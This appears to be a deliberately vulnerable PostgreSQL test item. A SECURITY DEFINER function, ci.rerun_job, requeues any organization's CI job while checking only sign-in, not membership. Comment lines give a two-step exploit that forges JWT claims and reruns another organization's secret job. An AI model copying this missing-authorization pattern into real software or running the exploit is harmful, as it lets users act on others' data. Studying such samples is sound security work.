-- The RPC restarts the job that its caller names, with the rights of the robot and without a look at
-- memberships.
-- about: rerun_job, jobs
-- as: hf_runnerly_app
-- exploit: SET request.jwt.claims = '{"sub":"a0000000-0000-4000-8000-000000000001","role":"authenticated"}';
-- exploit: SELECT ci.rerun_job('b0000000-0000-4000-8000-000000000000', 'vault', 7) AS again;
-- shows: Road-secret job
CREATE FUNCTION ci.rerun_job(org uuid, repo text, num integer) RETURNS SETOF text
LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  IF ci.uid() IS NULL THEN
    RAISE EXCEPTION 'not signed in';
  END IF;
  RETURN QUERY UPDATE ci.jobs j SET status = 'queued'
    WHERE j.organization_id = org AND j.repository = repo AND j.number = num RETURNING j.name;
END $$;
ALTER FUNCTION ci.rerun_job(uuid, text, integer) OWNER TO hf_runnerly_robot;
REVOKE EXECUTE ON FUNCTION ci.rerun_job(uuid, text, integer) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION ci.rerun_job(uuid, text, integer) TO hf_runnerly_app;
